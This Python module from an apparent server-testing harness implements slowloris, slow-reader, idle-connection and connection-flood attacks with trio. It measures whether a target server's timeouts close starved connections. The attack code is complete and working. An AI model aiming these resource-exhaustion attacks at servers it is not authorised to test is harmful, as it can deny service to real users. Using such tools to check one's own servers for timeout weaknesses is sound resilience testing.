"""Attacks that hold connections open: slowloris, slow-reader, idle, flood.

Each opens its connections, misbehaves on them until the attack's deadline, and
records whether and when the server ended each one -- the figure that tells a server
with working timeouts from one that can be starved by patient clients.
"""

from __future__ import annotations

import statistics
from collections import Counter
from collections.abc import Awaitable, Callable

import trio

from ._attack import AttackContext, Held, Outcome, connect_held, fd_budget, summarize_held
from ._client import describe, pending_error, send_quietly

# An HTTP request that never ends: what a slowloris drips, byte by byte, in a loop.
SLOWLORIS_BYTES = b"GET / HTTP/1.1\r\nHost: chaos\r\nX-Slowloris: aaaaaaaaaaaaaaaaaaaaaaa"
MAX_DRIPS = 100_000
# A slow reader: a small receive window, sends until the server stops taking bytes
# (it is stuck writing the echo to us), at most this much per connection.
SLOW_READER_RCVBUF = 16 * 1024
SLOW_READER_CHUNK = 16 * 1024
SLOW_READER_BYTES = 256 * 1024
POLL = 0.1
MAX_POLLS = 1_000_000


async def _receive(
    ctx: AttackContext, sock: trio.socket.SocketType, held: Held, max_bytes: int
) -> bytes:
    # One recv; b"" when the server ended the connection (recorded in ``held``).
    try:
        data = await sock.recv(max_bytes)
    except OSError as exc:
        held.ended(ctx, describe(exc))
        return b""
    if not data:
        held.ended(ctx, "eof")
    return data


async def _watch(ctx: AttackContext, sock: trio.socket.SocketType, held: Held) -> None:
    # Read (and count) until the server ends the connection; the caller's scope stops us.
    while data := await _receive(ctx, sock, held, 65536):
        held.received += len(data)


async def _hold_all(
    ctx: AttackContext, count: int, one: Callable[[AttackContext, Held], Awaitable[None]]
) -> list[Held]:
    held = [Held() for _ in range(count)]
    with trio.move_on_at(ctx.deadline):
        async with trio.open_nursery() as nursery:
            for record in held:
                nursery.start_soon(one, ctx, record)
    return held


async def slowloris(ctx: AttackContext) -> Outcome:
    """Many connections, each dripping one byte of an endless request per interval."""
    outcome = Outcome()
    rng = ctx.rng()
    # Each connection starts at its own point of the interval, so the drips do not
    # come in waves.
    offsets = iter([rng.random() * ctx.config.drip_interval for _ in range(ctx.config.connections)])

    async def one(ctx: AttackContext, held: Held) -> None:
        await _slowloris_one(ctx, held, next(offsets))

    held = await _hold_all(ctx, ctx.config.connections, one)
    summarize_held(ctx, held, outcome)
    outcome.figures["drip_interval"] = ctx.config.drip_interval
    # How long the server let a connection stay silent before closing it: its idle
    # timeout, if that is what it enforces.
    silences = [
        h.closed_after - h.last_sent
        for h in held
        if h.closed_after is not None and h.last_sent is not None
    ]
    if silences:
        outcome.figures["silence_before_close_median"] = round(statistics.median(silences), 3)
    mid_drip = _closed_mid_drip(held, ctx.config.drip_interval)
    if mid_drip:
        outcome.figures["closed_mid_drip"] = mid_drip
        outcome.server_did += (
            f"; {mid_drip} while still dripping: a minimum receive rate or a lifetime "
            "limit, not an idle timeout"
        )
    if ctx.config.expect == "echo":
        outcome.figures["echoed"] = f"{sum(h.received for h in held)}/{sum(h.sent for h in held)}"
    return outcome


def _closed_mid_drip(held: list[Held], interval: float) -> int:
    # Closed sooner after its last byte than the longest silence the server had
    # already let pass between two bytes (at least one drip interval): an idle timeout
    # would have to be longer than that silence, so something else closed it. The
    # measured silence, not the nominal interval, is the bar: on a loaded machine the
    # drips (and the close's arrival) run late together.
    return sum(
        1
        for h in held
        if h.closed_after is not None
        and h.last_sent is not None
        and h.sent >= 2
        and h.closed_after - h.last_sent < max(interval, h.longest_gap)
    )


async def _slowloris_one(ctx: AttackContext, held: Held, offset: float) -> None:
    sock = await connect_held(ctx, held)
    if sock is None:
        return
    interval = ctx.config.drip_interval
    with sock:
        async with trio.open_nursery() as nursery:
            nursery.start_soon(_watch_then_stop, ctx, sock, held, nursery.cancel_scope)
            await trio.sleep(offset)
            for i in range(MAX_DRIPS):
                byte = SLOWLORIS_BYTES[i % len(SLOWLORIS_BYTES) : i % len(SLOWLORIS_BYTES) + 1]
                why = await send_quietly(sock, byte)
                if why is not None:
                    held.ended(ctx, why)
                    break
                now = ctx.elapsed()
                if held.last_sent is not None:
                    held.longest_gap = max(held.longest_gap, now - held.last_sent)
                held.sent += 1
                held.last_sent = now
                await trio.sleep(interval)
            nursery.cancel_scope.cancel()


async def _watch_then_stop(
    ctx: AttackContext, sock: trio.socket.SocketType, held: Held, scope: trio.CancelScope
) -> None:
    await _watch(ctx, sock, held)
    scope.cancel()


async def idle(ctx: AttackContext) -> Outcome:
    """Many connections that connect and say nothing."""
    outcome = Outcome()
    summarize_held(ctx, await _hold_all(ctx, ctx.config.connections, _idle_one), outcome)
    return outcome


async def _idle_one(ctx: AttackContext, held: Held) -> None:
    sock = await connect_held(ctx, held)
    if sock is not None:
        with sock:
            await _watch(ctx, sock, held)


async def slow_reader(ctx: AttackContext) -> Outcome:
    """Many connections that send and never read, so the server's sends block."""
    outcome = Outcome()
    held = await _hold_all(ctx, ctx.config.connections, _slow_reader_one)
    summarize_held(ctx, held, outcome)
    return outcome


async def _slow_reader_one(ctx: AttackContext, held: Held) -> None:
    sock = await connect_held(ctx, held, rcvbuf=SLOW_READER_RCVBUF)
    if sock is None:
        return
    chunk = b"r" * SLOW_READER_CHUNK
    with sock:
        for _ in range(MAX_POLLS):
            # Never recv(): a reset is seen by the next send or as a pending error.
            if held.sent < SLOW_READER_BYTES:
                with trio.move_on_after(POLL):
                    try:
                        held.sent += await sock.send(chunk)
                        continue
                    except OSError as exc:
                        held.ended(ctx, describe(exc))
                        return
            else:
                await trio.sleep(POLL)
            error = pending_error(sock)
            if error:
                held.ended(ctx, describe(OSError(error, "")))
                return


async def flood(ctx: AttackContext) -> Outcome:
    """Connections far beyond any sane limit, opened as fast as possible and held.

    Each sends one byte and waits: the server serves it (answers), closes or resets
    it, or leaves it waiting (in its backlog, or accepted and ignored).
    """
    outcome = Outcome()
    count = fd_budget(ctx.config.flood)
    if count < ctx.config.flood:
        outcome.figures["capped_by_rlimit_nofile"] = count
    held = await _hold_all(ctx, count, _flood_one)
    served = sum(1 for h in held if h.received and h.failed is None)
    ended = Counter(h.how for h in held if h.closed_after is not None and not h.received)
    failed = Counter(h.failed for h in held if h.failed is not None)
    waiting = count - served - sum(ended.values()) - sum(failed.values())
    parts = [f"served {served}/{count}"]
    parts += [f"{how} {n} unserved" for how, n in sorted(ended.items())]
    parts.append(f"left {waiting} waiting with no answer")
    parts += [f"connect {why} {n}" for why, n in sorted(failed.items())]
    outcome.server_did = ", ".join(parts)
    outcome.figures.update(
        connections=count,
        served=served,
        closed_unserved=sum(ended.values()),
        waiting=waiting,
        connect_failed=sum(failed.values()),
    )
    return outcome


async def _flood_one(ctx: AttackContext, held: Held) -> None:
    sock = await connect_held(ctx, held)
    if sock is None:
        return
    with sock:
        why = await send_quietly(sock, b"f")
        if why is not None:
            held.ended(ctx, why)
            return
        held.sent = 1
        data = await _receive(ctx, sock, held, 1)
        if not data:
            return
        held.received = len(data)
        # Served: hold the connection (keep the server's slot busy) until the end.
        await _watch(ctx, sock, held)
